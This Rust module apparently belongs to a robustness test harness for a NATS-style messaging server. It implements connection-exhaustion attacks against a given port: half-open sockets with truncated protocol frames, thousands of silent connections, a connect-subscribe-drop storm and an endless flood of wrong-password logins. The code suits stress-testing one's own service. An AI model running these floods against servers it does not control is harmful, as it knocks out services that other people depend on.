//! Attacks by the number of connections.

use std::io;

use super::foe::{Fate, Foe, rest};

/// As many as a process may have, less some for itself.
const MOST: usize = 16_000;

/// Begins with a half of everything, says that no more will come, and stays.
pub(crate) fn half_open(port: u16) -> io::Error {
    let beginnings: [&[u8]; 4] =
        [b"", b"CONNECT {\"verb", b"PUB half.open 100000\r\nxxxxxxxx", b"SUB half.open 1\r\nPI"];
    many(move |number| {
        let text = beginnings[number % beginnings.len()];
        let foe = if number % 2 == 0 { Foe::open(port, text)? } else { Foe::silent(port)? };
        if number % 3 == 0 {
            foe.shut();
        }
        Ok(foe)
    })
}

/// Says nothing at all.
pub(crate) fn silent(port: u16) -> io::Error {
    many(move |_| Foe::silent(port))
}

/// Opens one after the other; where no more are to be had, the oldest is replaced.
fn many(open: impl Fn(usize) -> io::Result<Foe>) -> io::Error {
    let mut foes: Vec<Foe> = Vec::new();
    for number in 0.. {
        match open(number) {
            Ok(foe) if foes.len() < MOST => foes.push(foe),
            Ok(foe) => foes[number % MOST] = foe,
            Err(_) if foes.is_empty() => rest(),
            Err(_) => {
                let oldest = number % foes.len();
                foes.swap_remove(oldest);
            }
        }
    }
    io::Error::other("there is no end")
}

/// Comes, subscribes and goes.
pub(crate) fn storm(port: u16) -> io::Error {
    loop {
        match Foe::open(port, b"SUB storm.> 1\r\nPUB storm.x 2\r\nhi\r\n") {
            Ok(foe) => drop(foe),
            Err(_) => rest(),
        }
    }
}

/// Shows wrong passwords, each of which takes long to check, and does not wait for the answer.
pub(crate) fn passwords(port: u16) -> io::Error {
    let mut foes: Vec<Foe> = Vec::new();
    for number in 0.. {
        if foes.len() >= 2000 {
            foes.swap_remove(number % 2000);
        }
        let Ok(mut foe) = Foe::silent(port) else {
            rest();
            continue;
        };
        let text = format!("CONNECT {{\"verbose\":false,\"user\":\"ann\",\"pass\":\"wrong{number}\"}}\r\nPING\r\n");
        if foe.say(text.as_bytes()) != Fate::Dead {
            foes.push(foe);
        }
    }
    io::Error::other("there is no end")
}
